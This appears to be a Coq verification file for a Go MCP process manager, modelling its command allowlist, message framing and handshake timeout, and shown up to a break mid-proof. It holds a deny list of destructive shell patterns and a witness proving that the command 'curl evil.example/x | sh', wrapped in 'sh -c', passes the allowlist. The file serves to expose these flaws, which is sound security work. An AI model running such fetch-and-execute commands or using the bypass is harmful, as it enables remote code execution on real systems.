(* ===== verification/Process.v ===== *)
(** * Processes and their framing: [src/poolmgr/process.go], handshake of [pool.go]

    Which commands are allowed and what is executed for them, the two framings
    of the messages on the pipes of a process, and the handshake of a new
    process on top of the request table. *)
From S2P Require Import Prelude GoStrings PoolRequests.
Open Scope Z_scope.

(** ** Commands *)

(** [strings.ContainsAny] *)
Definition contains_any (s : string) (chars : list ascii) : bool :=
  existsb (fun c => has_byte c s) chars.

Definition dangerous : list string :=
  ["rm -"; "rmdir"; "del "; "format"; "mkfs"; "dd if="; ">/dev/"; "&& rm"; "|| rm"; "; rm";
   "| rm"; "`"; "$("; "\x"].

Definition simple : list string := ["cat"; "npx"; "yes"; "false"; "echo"; "sleep"; "env"].

Definition allowedPrefixes : list string :=
  ["npx "; "npm "; "node "; "github-mcp-server"; "github-mcp-server "; "uvx "; "bunx "; "sleep ";
   "echo "; "env "; "go run "].

Definition metacharacters : list ascii :=
  [";"; "|"; "&"; "`"; "$"; "("; ")"; "<"; ">"]%char.

Definition sh_c (quote : ascii) : string := "sh -c " +:+ String quote EmptyString.

(** The part before the first space, which is not the first byte. *)
Definition command_part (command : string) : string :=
  match str_index command " " with
  | Some (S n) => str_take (S n) command
  | _ => command
  end.

Definition isAllowedCommand (command : string) : res unit :=
  match List.find (contains command) dangerous with
  | Some d => Err (Errorf ("command contains dangerous pattern: " +:+ d))
  | None =>
      if bool_decide (command ∈ simple) then Ok tt
      else if existsb (has_prefix command) allowedPrefixes then Ok tt
      else if has_prefix command "/" && negb (contains_any (command_part command) metacharacters)
      then Ok tt
      else if has_prefix command (sh_c "'") || has_prefix command (sh_c "034") then Ok tt
      else Err (Errorf ("command not in allowlist: " +:+ command))
  end.

(** [isSimpleCommand] *)
Definition isSimpleCommand (command : string) : bool :=
  bool_decide (command ∈ ["cat"; "npx"; "yes"; "false"; "sh -c 'echo invalid'"]) ||
  has_prefix command "github-mcp-server".

(** [strings.Fields] *)
Definition starts_space (s : string) : bool := existsb (has_prefix s) spaces.

Fixpoint take_word (s : string) : string * string :=
  match s with
  | EmptyString => (EmptyString, EmptyString)
  | String c s' => if starts_space s then (EmptyString, s)
                   else let '(w, r) := take_word s' in (String c w, r)
  end.

Fixpoint fields_loop (fuel : nat) (s : string) : list string :=
  match fuel with
  | O => []
  | S fuel =>
      match trim_left (String.length s) s with
      | EmptyString => []
      | s => let '(w, r) := take_word s in w :: fields_loop fuel r
      end
  end.

Definition fields (s : string) : list string := fields_loop (S (String.length s)) s.

(** What [spawnProcessRaw] starts; without an environment the process has that of
    the bridge. *)
Inductive started := Builtin | Exec (argv : list string) (env : option (list string)).

Definition argv_of (command : string) : list string :=
  if contains command " " then fields command else [command].

(** [ok]: the pipes are made and the process starts. *)
Definition spawnProcessRaw (command : string) (env : option (list string)) (ok : bool) : res started :=
  if bool_decide (command = "mcp-bridge-builtin") then Ok Builtin
  else
    match isAllowedCommand command with
    | Err e => Err (Wrapf "command not allowed: %w" e)
    | Ok _ =>
        let isSimple := isSimpleCommand command || has_prefix command "npx " in
        let argv :=
          if isSimple && negb (contains command ";") && negb (contains command "&&") &&
             negb (contains command "||")
          then argv_of command
          else if has_prefix command "/" then argv_of command
          else ["sh"; "-c"; command] in
        if ok then Ok (Exec argv env) else Err (Errorf "start")
    end.

(** ** Numbers as text *)

Definition digit (z : Z) : ascii := ascii_of_nat (48 + Z.to_nat z).

Fixpoint itoa_loop (fuel : nat) (z : Z) (s : string) : string :=
  match fuel with
  | O => s
  | S fuel =>
      let s := String (digit (z mod 10)) s in
      if z <? 10 then s else itoa_loop fuel (z / 10) s
  end.

(** [fmt.Sprint] of a length. *)
Definition itoa (z : Z) : string := itoa_loop (S (Z.to_nat (Z.log2 z))) z EmptyString.

(** [%d] of any integer. *)
Definition decimal_text (z : Z) : string := if z <? 0 then "-" +:+ itoa (- z) else itoa z.

Fixpoint decimal (acc : Z) (s : string) : option Z :=
  match s with
  | EmptyString => Some acc
  | String c s =>
      let n := Z.of_nat (nat_of_ascii c) in
      if (48 <=? n) && (n <=? 57) then decimal (10 * acc + (n - 48)) s else None
  end.

(** [strconv.Atoi]; [None]: an error. *)
Definition Atoi (s : string) : option Z :=
  let '(neg, d) := match s with
                   | String "-" d => (true, d)
                   | String "+" d => (false, d)
                   | _ => (false, s)
                   end in
  if bool_decide (d = EmptyString) then None
  else match decimal 0 d with
       | None => None
       | Some z => let z := if neg then - z else z in
                   if bool_decide (MinInt64 <= z <= MaxInt64) then Some z else None
       end.

(** ** Framing *)

Definition crlf : string := bytes [13; 10]%nat.
Definition newline : string := bytes [10]%nat.

Definition content_length : string := "Content-Length: ".

Definition formatMCPPacket (body : string) : string :=
  content_length +:+ itoa (len body) +:+ crlf +:+ crlf +:+ body.

(** [ReadString] up to a newline, which is left out; [None]: the stream ends
    before it. *)
Fixpoint read_line (s : string) : option (string * string) :=
  match s with
  | EmptyString => None
  | String c s =>
      if bool_decide (c = "010"%char) then Some (EmptyString, s)
      else match read_line s with Some (l, r) => Some (String c l, r) | None => None end
  end.

(** [strings.TrimRight] of carriage returns and newlines. *)
Fixpoint trim_breaks (s : string) : string :=
  match s with
  | EmptyString => EmptyString
  | String c s =>
      match trim_breaks s with
      | EmptyString => if line_break c then EmptyString else String c EmptyString
      | t => String c t
      end
  end.

(** The messages [captureStdout] hands to the dispatcher, up to the end of the
    output [s]. *)
Fixpoint capture_lines (fuel : nat) (s : string) : list string :=
  match fuel with
  | O => []
  | S fuel =>
      match read_line s with
      | None => []
      | Some (line, rest) =>
          let data := trim_breaks line in
          if bool_decide (data = EmptyString) then capture_lines fuel rest
          else data :: capture_lines fuel rest
      end
  end.

Definition captureStdout (s : string) : list string := capture_lines (S (String.length s)) s.

(** The line after the header is skipped, whatever it holds. *)
Definition skip_line (s : string) : string :=
  match read_line s with Some (_, rest) => rest | None => EmptyString end.

(** A body that is cut off, or too long for a buffer, ends the capture. *)
Fixpoint capture_packets (fuel : nat) (s : string) : list string :=
  match fuel with
  | O => []
  | S fuel =>
      match read_line s with
      | None => []
      | Some (line, rest) =>
          let line := trim_breaks line in
          if negb (has_prefix line content_length) then capture_packets fuel rest
          else
            match Atoi (trim_space (trim_prefix line content_length)) with
            | None => capture_packets fuel rest
            | Some contentLen =>
                if contentLen <=? 0 then capture_packets fuel rest
                else
                  let rest := skip_line rest in
                  if len rest <? contentLen then []
                  else str_take (Z.to_nat contentLen) rest ::
                       capture_packets fuel (str_drop (Z.to_nat contentLen) rest)
            end
      end
  end.

Definition captureStdoutContentLength (s : string) : list string :=
  capture_packets (S (String.length s)) s.

(** ** The handshake *)

(** What the wait for the response sees: the operations on the request table,
    with their times, until the channel [n] gives something or the timer of
    [time.After] fires. *)
Fixpoint await (n : nat) (deadline : Time) (events : list (Time * request_op)) (s : Requests.t) :
    Requests.received * Requests.t :=
  match Requests.receive n s with
  | (Requests.Blocked, _) =>
      match events with
      | [] => (Requests.Blocked, s)
      | (t, o) :: events =>
          if deadline <=? t then (Requests.Blocked, s)
          else await n deadline events (request_step o s)
      end
  | r => r
  end.

Definition handshakeTimeout : Duration := 30 * Second.

Section Handshake.
(** [json.Unmarshal] of the field [result.instructions]; [None]: an error. *)
Variable decode_instructions : string -> option string.

(** [now]: when the wait begins, after the request was written to the process.
    The result, the request table, the instructions of the pool. *)
Definition performMCPHandshake (initID : string) (now : Time) (events : list (Time * request_op))
    (s : Requests.t) (instructions : string) : bool * Requests.t * string :=
  let '(respCh, s) := Requests.RegisterRequest initID s in
  let '(resp, s) := await respCh (now + handshakeTimeout) events s in
  let s := Requests.UnregisterRequest initID s in
  match resp with
  | Requests.Blocked => (false, s, instructions)
  | Requests.Closed => (true, s, instructions)
  | Requests.Got data =>
      let instructions :=
        if bool_decide (data = EmptyString) then instructions
        else match decode_instructions data with
             | Some i => if bool_decide (i = EmptyString) then instructions else i
             | None => instructions
             end in
      (true, s, instructions)
  end.
End Handshake.

(** ** Lemmas *)

(** *** Numbers *)

Definition is_digit (c : ascii) : bool :=
  (48 <=? Z.of_nat (nat_of_ascii c)) && (Z.of_nat (nat_of_ascii c) <=? 57).

Lemma digit_val z : 0 <= z < 10 -> Z.of_nat (nat_of_ascii (digit z)) = 48 + z.
Proof. intros Hz. unfold digit. rewrite nat_ascii_embedding by lia. lia. Qed.

Lemma digit_is_digit z : 0 <= z < 10 -> is_digit (digit z) = true.
Proof. intros Hz. unfold is_digit. rewrite digit_val by done. lia. Qed.

Lemma decimal_digit acc z s :
  0 <= z < 10 -> decimal acc (String (digit z) s) = decimal (10 * acc + z) s.
Proof.
  intros Hz. cbn [decimal]. rewrite digit_val by done.
  rewrite (proj2 (Z.leb_le 48 _)), (proj2 (Z.leb_le _ 57)) by lia. simpl. f_equal. lia.
Qed.

Lemma itoa_loop_decimal fuel z s :
  0 <= z < 2 ^ Z.of_nat (S fuel) -> decimal 0 (itoa_loop (S fuel) z s) = decimal z s.
Proof.
  revert z s. induction fuel as [|fuel IH]; intros z s Hz.
  - cbn in Hz. cbn [itoa_loop]. rewrite (proj2 (Z.ltb_lt z 10)) by lia.
    rewrite Z.mod_small by lia. by rewrite decimal_digit by lia.
  - cbn [itoa_loop]. destruct (Z.ltb_spec z 10) as [Hlt|Hge].
    + rewrite Z.mod_small by lia. by rewrite decimal_digit by lia.
    + change (decimal 0 (itoa_loop (S fuel) (z / 10) (String (digit (z mod 10)) s)) = decimal z s).
      rewrite IH; [rewrite decimal_digit by (apply Z.mod_pos_bound; lia)|].
      * f_equal. pose proof (Z.div_mod z 10). lia.
      * split; [apply Z.div_pos; lia|]. apply Z.div_lt_upper_bound; [lia|].
        rewrite (Nat2Z.inj_succ (S fuel)), Z.pow_succ_r in Hz by lia. lia.
Qed.

Lemma itoa_loop_digits fuel z s :
  0 <= z -> str_forallb is_digit s = true -> str_forallb is_digit (itoa_loop fuel z s) = true.
Proof.
  revert z s. induction fuel as [|fuel IH]; intros z s Hz Hs; [done|]. cbn [itoa_loop].
  assert (Hd : str_forallb is_digit (String (digit (z mod 10)) s) = true).
  { cbn [str_forallb]. rewrite digit_is_digit by (apply Z.mod_pos_bound; lia). done. }
  case_if; [done|]. apply IH; [apply Z.div_pos; lia|done].
Qed.

Lemma itoa_digits z : 0 <= z -> str_forallb is_digit (itoa z) = true.
Proof. intros Hz. by apply itoa_loop_digits. Qed.

Lemma itoa_loop_nonempty fuel z s : s <> EmptyString -> itoa_loop fuel z s <> EmptyString.
Proof.
  revert z s. induction fuel as [|fuel IH]; intros z s Hs; [done|]. cbn [itoa_loop].
  case_if; [done|]. by apply IH.
Qed.

Lemma Atoi_digits s :
  str_forallb is_digit s = true -> s <> EmptyString ->
  Atoi s = match decimal 0 s with
           | Some z => if bool_decide (MinInt64 <= z <= MaxInt64) then Some z else None
           | None => None
           end.
Proof.
  intros Hs Hne. destruct s as [|c s]; [done|]. cbn [str_forallb] in Hs.
  apply andb_true_iff in Hs as [Hc _].
  assert (Hsign : negb (bool_decide (c = "-"%char)) && negb (bool_decide (c = "+"%char)) = true).
  { clear -Hc. by destruct c as [[] [] [] [] [] [] [] []]. }
  unfold Atoi. clear Hc.
  destruct c as [[] [] [] [] [] [] [] []]; try discriminate Hsign; done.
Qed.

Lemma Atoi_itoa z : 0 <= z <= MaxInt64 -> Atoi (itoa z) = Some z.
Proof.
  intros Hz. rewrite Atoi_digits.
  - unfold itoa. rewrite itoa_loop_decimal.
    + cbn [decimal]. rewrite bool_decide_eq_true_2; [done|]. split; [|lia]. trans 0; [done|lia].
    + split; [lia|]. rewrite Nat2Z.inj_succ, Z2Nat.id by apply Z.log2_nonneg.
      destruct (decide (z = 0)) as [->|]; [done|]. apply Z.log2_spec. lia.
  - apply itoa_digits. lia.
  - unfold itoa. cbn [itoa_loop]. case_if; [done|]. by apply itoa_loop_nonempty.
Qed.

(** *** Lines *)

Definition no_break (s : string) : bool := str_forallb (fun c => negb (line_break c)) s.

Lemma read_line_app a b :
  has_byte "010" a = false -> read_line (a +:+ String "010" b) = Some (a, b).
Proof.
  induction a as [|c a IH]; cbn; [done|]. intros [Hc Ha]%orb_false_iff.
  apply bool_decide_eq_false_1 in Hc. rewrite bool_decide_eq_false_2 by done. by rewrite IH.
Qed.

Lemma read_line_newline a b :
  has_byte "010" a = false -> read_line (a +:+ newline +:+ b) = Some (a, b).
Proof. exact (read_line_app a b). Qed.

Lemma read_line_length s l r :
  read_line s = Some (l, r) -> String.length s = (String.length l + 1 + String.length r)%nat.
Proof.
  revert l. induction s as [|c s IH]; cbn [read_line]; intros l; [done|]. case_if.
  - intros [= <- <-]. done.
  - destruct (read_line s) as [[l' r']|]; [|done]. intros [= <- ->].
    rewrite (IH l' eq_refl : String.length s = _) || (simpl; rewrite (IH l' eq_refl)). done.
Qed.

Lemma skip_line_length s : (String.length (skip_line s) <= String.length s)%nat.
Proof.
  unfold skip_line. destruct (read_line s) as [[l r]|] eqn:Hr; [|simpl; lia].
  apply read_line_length in Hr. lia.
Qed.

Lemma str_drop_length_le n s : (String.length (str_drop n s) <= String.length s)%nat.
Proof. revert s. induction n as [|n IH]; intros [|c s]; simpl; [lia..|]. specialize (IH s). lia. Qed.

Lemma trim_breaks_app a b :
  no_break a = true -> trim_breaks b = EmptyString -> trim_breaks (a +:+ b) = a.
Proof.
  intros Ha Hb. induction a as [|c a IH]; [done|]. cbn in Ha. apply andb_true_iff in Ha as [Hc Ha].
  cbn. rewrite (IH Ha). apply negb_true_iff in Hc. rewrite Hc. by destruct a.
Qed.

Lemma no_break_newline s : no_break s = true -> has_byte "010" s = false.
Proof.
  induction s as [|c s IH]; [done|]. cbn. intros [Hc Hs]%andb_true_iff. rewrite (IH Hs), orb_false_r.
  apply bool_decide_eq_false_2. by intros ->.
Qed.

Lemma digits_no_break s : str_forallb is_digit s = true -> no_break s = true.
Proof.
  induction s as [|c s IH]; [done|]. cbn. intros [Hc Hs]%andb_true_iff. unfold no_break in IH.
  rewrite (IH Hs), andb_true_r. clear -Hc. by destruct c as [[] [] [] [] [] [] [] []].
Qed.

Lemma digits_trim s : str_forallb is_digit s = true -> trim_space s = s.
Proof. intros Hs. by apply (trim_space_id is_digit). Qed.

(** *** Fuel *)

Lemma capture_packets_fuel f1 f2 s :
  (String.length s < f1)%nat -> (String.length s < f2)%nat ->
  capture_packets f1 s = capture_packets f2 s.
Proof.
  revert f2 s. induction f1 as [|f1 IH]; intros [|f2] s H1' H2'; [lia..|].
  cbn [capture_packets]. destruct (read_line s) as [[l r]|] eqn:Hr; [|done].
  apply read_line_length in Hr.
  assert (Hrest : capture_packets f1 r = capture_packets f2 r) by (apply IH; lia).
  case_if; [done|]. destruct (Atoi _) as [n|]; [|done]. case_if; [done|]. case_if; [done|].
  f_equal. pose proof (skip_line_length r).
  pose proof (str_drop_length_le (Z.to_nat n) (skip_line r)). apply IH; lia.
Qed.

Lemma capture_lines_fuel f1 f2 s :
  (String.length s < f1)%nat -> (String.length s < f2)%nat ->
  capture_lines f1 s = capture_lines f2 s.
Proof.
  revert f2 s. induction f1 as [|f1 IH]; intros [|f2] s H1' H2'; [lia..|].
  cbn [capture_lines]. destruct (read_line s) as [[l r]|] eqn:Hr; [|done].
  apply read_line_length in Hr. by rewrite (IH f2 r) by lia.
Qed.

(** *** Packets *)

(** A header line, any one line, and what follows. *)
Definition packet (n : Z) (line rest : string) : string :=
  content_length +:+ itoa n +:+ crlf +:+ line +:+ newline +:+ rest.

Lemma capture_header fuel n line rest :
  0 <= n <= MaxInt64 -> has_byte "010" line = false ->
  capture_packets (S fuel) (packet n line rest) =
  if n =? 0 then capture_packets fuel (line +:+ newline +:+ rest)
  else if len rest <? n then []
  else str_take (Z.to_nat n) rest :: capture_packets fuel (str_drop (Z.to_nat n) rest).
Proof.
  intros Hn Hl. pose proof (itoa_digits n ltac:(lia)) as Hd.
  assert (Hread : read_line (packet n line rest) =
                  Some (content_length +:+ itoa n +:+ bytes [13%nat], line +:+ newline +:+ rest)).
  { assert (Heq : packet n line rest = (content_length +:+ itoa n +:+ bytes [13%nat]) +:+
                    String "010" (line +:+ newline +:+ rest)).
    { unfold packet. rewrite <- !str_app_assoc. done. }
    rewrite Heq. apply read_line_app. rewrite !has_byte_app.
    by rewrite (no_break_newline _ (digits_no_break _ Hd)). }
  cbn [capture_packets]. rewrite Hread.
  assert (Htrim : trim_breaks (content_length +:+ itoa n +:+ bytes [13%nat]) = content_length +:+ itoa n).
  { rewrite str_app_assoc. apply trim_breaks_app; [|done]. unfold no_break.
    rewrite str_forallb_app. by rewrite (digits_no_break _ Hd : str_forallb _ _ = true). }
  rewrite Htrim, has_prefix_app, trim_prefix_app, digits_trim, Atoi_itoa by done. cbn [negb].
  assert (Hskip : skip_line (line +:+ newline +:+ rest) = rest).
  { unfold skip_line. by rewrite (read_line_newline line rest Hl). }
  rewrite Hskip. destruct (Z.eqb_spec n 0) as [->|Hne]; [done|].
  by rewrite (proj2 (Z.leb_gt n 0)) by lia.
Qed.

Lemma formatMCPPacket_packet body rest :
  formatMCPPacket body +:+ rest = packet (len body) (bytes [13%nat]) (body +:+ rest).
Proof. unfold formatMCPPacket, packet. by rewrite <- !str_app_assoc. Qed.

Lemma take_drop_len (a b : string) :
  str_take (Z.to_nat (len a)) (a +:+ b) = a /\ str_drop (Z.to_nat (len a)) (a +:+ b) = b.
Proof. unfold len. rewrite Nat2Z.id. by rewrite str_take_app, str_drop_app. Qed.

(** What a sequence of writes leaves on the pipe. *)
Definition stream (l : list string) : string := foldr String.append EmptyString l.

Lemma capture_packet body rest fuel :
  len body <= MaxInt64 -> (String.length (formatMCPPacket body +:+ rest) < fuel)%nat ->
  capture_packets fuel (formatMCPPacket body +:+ rest) =
  (if bool_decide (body = EmptyString) then [] else [body]) ++ captureStdoutContentLength rest.
Proof.
  intros Hmax Hfuel. unfold captureStdoutContentLength.
  assert (Hlen : (String.length rest + 2 < fuel)%nat).
  { unfold formatMCPPacket in Hfuel. rewrite !str_length_app in Hfuel. cbn in Hfuel. lia. }
  rewrite formatMCPPacket_packet. destruct fuel as [|fuel]; [lia|].
  rewrite capture_header by (done || (unfold len in *; lia)).
  destruct body as [|c body].
  - rewrite bool_decide_eq_true_2 by done. cbn [len String.length Z.of_nat Z.eqb app].
    destruct fuel as [|fuel]; [lia|].
    trans (capture_packets fuel rest); [|apply capture_packets_fuel; lia].
    change (capture_packets (S fuel) (bytes [13%nat] +:+ newline +:+ rest) = capture_packets fuel rest).
    cbn [capture_packets]. by rewrite (read_line_newline (bytes [13%nat]) rest).
  - rewrite bool_decide_eq_false_2 by done. destruct (take_drop_len (String c body) rest) as [-> ->].
    rewrite (proj2 (Z.eqb_neq _ 0)) by (unfold len; cbn; lia).
    rewrite (proj2 (Z.ltb_ge _ _)) by (unfold len; rewrite str_length_app; lia).
    cbn [app]. f_equal. apply capture_packets_fuel; lia.
Qed.

Lemma capture_line body rest fuel :
  no_break body = true -> (String.length (body +:+ newline +:+ rest) < fuel)%nat ->
  capture_lines fuel (body +:+ newline +:+ rest) =
  (if bool_decide (body = EmptyString) then [] else [body]) ++ captureStdout rest.
Proof.
  intros Hb Hfuel. rewrite !str_length_app in Hfuel. destruct fuel as [|fuel]; [cbn in Hfuel; lia|].
  cbn [capture_lines]. rewrite (read_line_newline body rest) by by apply no_break_newline.
  pose proof (trim_breaks_app body EmptyString Hb eq_refl) as Ht. rewrite str_app_nil_r in Ht.
  rewrite Ht. unfold captureStdout. cbn in Hfuel.
  rewrite (capture_lines_fuel fuel (S (String.length rest))) by lia. by case_if.
Qed.

(** * Properties *)

(** C30: the framings are inverse to the writers.  What is written to a process in
    either framing is read back from such a stream as the same messages in the
    same order, empty ones left out: packets of any messages whose length is an
    int, and lines of messages without line breaks, which compact JSON never
    has. *)
Theorem framing_roundtrip bodies :
  Forall (fun b => len b <= MaxInt64) bodies ->
  let sent := filter (fun b => b <> EmptyString) bodies in
  captureStdoutContentLength (stream (formatMCPPacket <$> bodies)) = sent /\
  (Forall (fun b => no_break b = true) bodies ->
   captureStdout (stream ((fun b => b +:+ newline) <$> bodies)) = sent).
Proof.
  intros Hlen. cbv zeta. split.
  - induction Hlen as [|b bodies Hb Hlen IH]; [done|]. cbn [stream foldr fmap list_fmap].
    change (foldr String.append EmptyString (formatMCPPacket <$> bodies))
      with (stream (formatMCPPacket <$> bodies)).
    unfold captureStdoutContentLength. rewrite (capture_packet b) by (done || lia).
    rewrite IH, filter_cons. case_bool_decide; by case_decide.
  - clear Hlen. intros Hf. induction Hf as [|b bodies Hb Hf IH]; [done|]. cbn [stream foldr fmap list_fmap].
    change (foldr String.append EmptyString ((fun b => b +:+ newline) <$> bodies))
      with (stream ((fun b => b +:+ newline) <$> bodies)).
    rewrite <- str_app_assoc. unfold captureStdout. rewrite (capture_line b) by (done || lia).
    rewrite IH, filter_cons. case_bool_decide; by case_decide.
Qed.

Lemma framing_roundtrip_witness :
  captureStdoutContentLength (stream (formatMCPPacket <$> ["{}"; EmptyString; "{id:1}"])) = ["{}"; "{id:1}"].
Proof.
  refine (proj1 (framing_roundtrip ["{}"; EmptyString; "{id:1}"] _)).
  repeat (apply Forall_cons; split; [done|]). apply Forall_nil_2.
Defined.

(** Another header breaks the framing.  A packet with one more header line
    between the length and the empty line, which the protocol allows, is
    delivered as the end of that line and the start of the message: the reader
    takes the header for the empty line. *)
Theorem extra_header_shifts_body header body rest :
  body <> EmptyString -> has_prefix body (bytes [13%nat]) = false -> len body <= MaxInt64 ->
  has_byte "010" header = false ->
  exists m l,
    captureStdoutContentLength
      (content_length +:+ itoa (len body) +:+ crlf +:+ header +:+ crlf +:+ crlf +:+ body +:+ rest) =
      m :: l /\
    m = str_take (String.length body) (crlf +:+ body +:+ rest) /\ m <> body.
Proof.
  intros Hne Hcr Hmax Hh. unfold captureStdoutContentLength.
  assert (Hp : content_length +:+ itoa (len body) +:+ crlf +:+ header +:+ crlf +:+ crlf +:+ body +:+ rest =
               packet (len body) (header +:+ bytes [13%nat]) (crlf +:+ body +:+ rest)).
  { unfold packet. by rewrite <- !str_app_assoc. }
  rewrite Hp, capture_header; [|unfold len in *; lia|by rewrite has_byte_app, Hh].
  assert (0 < len body) by (unfold len; destruct body; [done|cbn; lia]).
  rewrite (proj2 (Z.eqb_neq _ 0)) by lia.
  rewrite (proj2 (Z.ltb_ge _ _)) by (unfold len; rewrite !str_length_app; lia).
  eexists _, _. split; [done|]. unfold len. rewrite Nat2Z.id. split; [done|].
  destruct body as [|c body]; [done|]. intros Heq.
  assert (Hc : c = "013"%char) by (apply (f_equal (String.get 0)) in Heq; by injection Heq).
  by rewrite Hc in Hcr.
Qed.

Lemma extra_header_shifts_body_witness :
  exists m l,
    captureStdoutContentLength (content_length +:+ itoa (len "{id:1}") +:+ crlf +:+
      "Content-Type: json" +:+ crlf +:+ crlf +:+ "{id:1}" +:+ EmptyString) = m :: l /\
    m = str_take 6 (crlf +:+ "{id:1}" +:+ EmptyString) /\ m <> "{id:1}".
Proof. apply (extra_header_shifts_body "Content-Type: json" "{id:1}" EmptyString); done. Defined.

(** *** Commands *)

Lemma contains_cons c s p : contains (String c s) p = has_prefix (String c s) p || contains s p.
Proof.
  unfold contains. cbn [str_index]. case_if; [done|]. simpl.
  by destruct (str_index s p).
Qed.

Lemma has_prefix_sep c d a b :
  has_byte c d = false -> has_prefix (a +:+ String c b) d = has_prefix a d.
Proof.
  revert a. induction d as [|x d IH]; intros [|y a] Hd; cbn in *; try done.
  - apply orb_false_iff in Hd as [Hx Hd]. by rewrite Hx.
  - apply orb_false_iff in Hd as [_ Hd]. by rewrite IH.
Qed.

(** A pattern without the separator does not reach across it. *)
Lemma contains_sep c d a b :
  has_byte c d = false -> d <> EmptyString ->
  contains (a +:+ String c b) d = contains a d || contains b d.
Proof.
  intros Hd Hne. induction a as [|x a IH].
  - cbn [String.append]. rewrite contains_cons.
    change (String c b) with (EmptyString +:+ String c b). rewrite has_prefix_sep by done.
    by destruct d.
  - change (String x a +:+ String c b) with (String x (a +:+ String c b)).
    rewrite !contains_cons, IH.
    change (String x (a +:+ String c b)) with (String x a +:+ String c b).
    rewrite has_prefix_sep by done. by rewrite orb_assoc.
Qed.

Lemma find_None {A} (f : A -> bool) l : (forall x, In x l -> f x = false) -> List.find f l = None.
Proof.
  induction l as [|x l IH]; intros Hf; [done|]. cbn. rewrite (Hf x) by (by left).
  apply IH. intros y Hy. apply Hf. by right.
Qed.

(** A shell line in single quotes. *)
Definition shell_line (cmd : string) : string := "sh -c '" +:+ cmd +:+ "'".

Lemma shell_line_clean cmd d :
  In d dangerous -> contains cmd d = false -> contains (shell_line cmd) d = false.
Proof.
  intros Hd Hc.
  assert (Hp : has_byte "'" d = false /\ d <> EmptyString /\ contains "sh -c " d = false /\
               contains EmptyString d = false).
  { clear Hc. revert d Hd. apply List.Forall_forall. repeat (constructor; [by vm_compute|]). constructor. }
  destruct Hp as (Hq & Hne & Hpre & He). unfold shell_line.
  change ("sh -c '" +:+ cmd +:+ "'") with ("sh -c " +:+ String "'" (cmd +:+ String "'" EmptyString)).
  by rewrite !contains_sep, Hpre, Hc, He by done.
Qed.

(** The allow list is no protection against a command line.  Every command
    that has none of the forbidden patterns in it is allowed when it is written
    in single quotes after [sh -c], and a shell is started on it, whatever else
    it does. *)
Theorem shell_line_runs cmd env :
  (forall d, In d dangerous -> contains cmd d = false) -> cmd <> "echo invalid" ->
  isAllowedCommand (shell_line cmd) = Ok tt /\
  spawnProcessRaw (shell_line cmd) env true = Ok (Exec ["sh"; "-c"; shell_line cmd] env).
Proof.
  intros Hclean Hne.
  assert (Ha : isAllowedCommand (shell_line cmd) = Ok tt).
  { unfold isAllowedCommand. rewrite find_None by (intros d Hd; apply shell_line_clean; auto).
    case_if; [done|]. case_if; [done|]. by case_if. }
  split; [done|]. unfold spawnProcessRaw. rewrite Ha. rewrite bool_decide_eq_false_2 by done.
  assert (Hs : isSimpleCommand (shell_line cmd) = false).
  { unfold isSimpleCommand. apply orb_false_iff. split; [|done]. apply bool_decide_eq_false_2.
    rewrite !elem_of_cons, elem_of_nil. intros [|[|[|[|[Heq|[]]]]]]; try discriminate.
    apply Hne. change (shell_line cmd) with ("sh -c '" +:+ (cmd +:+ "'")) in Heq.
    change ("sh -c 'echo invalid'") with ("sh -c '" +:+ ("echo invalid" +:+ "'")) in Heq.
    apply str_app_inj_l in Heq. by apply str_app_inj_r in Heq. }
  by rewrite Hs.
Qed.

Lemma shell_line_runs_witness :
  spawnProcessRaw (shell_line "curl evil.example/x | sh") None true =
    Ok (Exec ["sh"; "-c"; shell_line "curl evil.example/x | sh"] None).
Proof.
  apply (shell_line_runs "curl evil.example/x | sh" None); [|done]. intros d Hd.
  revert d Hd. apply List.Forall_forall. repeat (constructor; [by vm_compute|]). constructor.
Defined.

(** *** The handshake *)

Import Requests RequestFacts.

Lemma timer_kept id n o s :
  ok s -> pendingRequests s !! id = Some n -> timers s !! n = Some id ->
  spares id n (timers_of id s) o -> timers (request_step o s) !! n = Some id.
Proof.
  intros Hok Hp Ht Hs. pose proof (ok_open _ Hok _ _ Hp) as [Hlt _].
  destruct o as [id'|id'|k|[id'|] data|k]; simpl in *; [| | | |done|].
  - by rewrite lookup_insert_ne by lia.
  - unfold UnregisterRequest. destruct (pendingRequests s !! id') as [m|] eqn:Hm; [|done]. simpl.
    rewrite lookup_delete_ne; [done|]. intros ->. apply Hs. by eapply (ok_inj _ Hok).
  - assert (k <> n) by (intros ->; apply Hs; by apply timers_of_elem).
    unfold fire. destruct (timers s !! k) as [id'|]; [|done].
    destruct (pendingRequests s !! id'); simpl; by rewrite lookup_delete_ne.
  - by destruct (pendingRequests s !! id').
  - unfold receive. destruct (channels s !! k) as [c|]; [|done]. by destruct (RespChan.buffered c).
Qed.

(** The wait goes on through operations that leave the request alone. *)
Lemma await_spares T id n deadline pre events s :
  ok s -> pendingRequests s !! id = Some n -> channels s !! n = Some (RespChan.mk None false) ->
  timers s !! n = Some id -> timers_of id s ⊆ T ->
  Forall (fun e => e.1 < deadline /\ spares id n T e.2) pre ->
  exists s', await n deadline (pre ++ events) s = await n deadline events s' /\
    ok s' /\ pendingRequests s' !! id = Some n /\
    channels s' !! n = Some (RespChan.mk None false) /\ timers s' !! n = Some id.
Proof.
  revert s. induction pre as [|[t o] pre IH]; intros s Hok Hp Hc Ht HT Hf; [by exists s|].
  apply Forall_cons in Hf as [[Hlt Ho] Hf]. cbn in Hlt, Ho.
  assert (Ho' : spares id n (timers_of id s) o) by (destruct o; simpl in *; auto).
  destruct (spares_step id n o s _ Hok Hp Hc Ho') as (Hp' & Hc' & HT').
  cbn [app await]. rewrite (proj2 (Z.leb_gt deadline t)) by done.
  unfold receive. rewrite Hc. cbn.
  apply IH; [by apply request_step_ok|done|done|by apply timer_kept|by etransitivity|done].
Qed.

(** A silent process passes its handshake.  The timer of [RegisterRequest]
    runs for the same 30 seconds as the timeout of the handshake and was started
    before it; when it fires first it closes the channel of the response, and the
    handshake takes the closed channel for an answer: it succeeds, and the
    process is put among the warm ones, although nothing was ever read from it. *)
Theorem silent_process_passes_handshake decode ops initID now pre t post instructions :
  let s := request_run ops empty in
  let '(n, s1) := RegisterRequest initID s in
  let deadline := now + handshakeTimeout in
  Forall (fun e => e.1 < deadline /\ spares initID n (timers_of initID s1) e.2) pre ->
  t < deadline ->
  let '(answered, _, instructions') :=
    performMCPHandshake decode initID now (pre ++ (t, OFire n) :: post) s instructions in
  answered = true /\ instructions' = instructions.
Proof.
  intros s. pose proof (register_effect initID s) as Hr. unfold performMCPHandshake.
  assert (Htimer : timers (RegisterRequest initID s).2 !! (RegisterRequest initID s).1 = Some initID)
    by (simpl; by rewrite lookup_insert_eq).
